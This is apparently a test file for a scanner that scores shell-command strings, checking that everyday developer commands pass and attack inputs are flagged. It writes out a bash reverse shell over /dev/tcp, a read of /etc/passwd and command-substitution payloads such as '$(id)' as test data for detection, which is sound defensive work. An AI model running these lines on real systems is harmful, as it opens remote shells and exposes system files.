import { describe, expect, it } from 'vitest'
import { totalOf } from './scan-score.ts'

/** What people who build software look up, store and talk about. */
const values: readonly string[] = [
  'python -m http.server',
  'ssh -i key.pem ec2-user@203.0.113.5',
  'tar -xzf file.tar.gz',
  'rm -rf explained',
  'chmod 777 why is it bad',
  'rm -rf / --no-preserve-root meme',
  'cat /etc/hosts meaning',
  'chmod 755 what does it mean in linux',
  'curl -X POST https://api.example.com/v1/orders -H "Authorization: x"',
  'rm 3; ft 12; sq m 40',
]

describe('commands that are talked about', () => {
  it.each(values)('are not refused: %s', (value) => expect(totalOf(value)).toBeLessThan(80))

  it.each([
    ['/usr/bin/php /var/www/cron.php > /dev/null 2>&1', 'body.json./command'],
    ['python train.py --epochs 10', 'body.json./cmd'],
    ['ls -la', 'body.json./text'],
  ])('are not refused in documents: %s in %s', (value, where) => {
    expect(totalOf(value, { kind: 'body', where })).toBeLessThan(80)
  })

  it('stay attacks where they prove a break-in', () => {
    expect(totalOf('cat /etc/passwd', { kind: 'body', where: 'body.json./cmd' })).toBeGreaterThanOrEqual(80)
    expect(
      totalOf('bash -i >& /dev/tcp/203.0.113.4/4242 0>&1', { kind: 'body', where: 'body.json./run' }),
    ).toBeGreaterThanOrEqual(80)
    expect(totalOf('python3 -c "import socket,os"')).toBeGreaterThanOrEqual(80)
  })
})

describe('variables in brackets', () => {
  it.each(['$(basename).spec.ts', '$(dirname)/out', '$(path)'])('are not refused: %s', (value) => {
    expect(totalOf(value)).toBeLessThan(80)
  })

  it.each(['$(id)', '$(whoami).example.com', '$(basename /etc/passwd)'])('are refused where they run: %s', (value) => {
    expect(totalOf(value)).toBeGreaterThanOrEqual(80)
  })
})
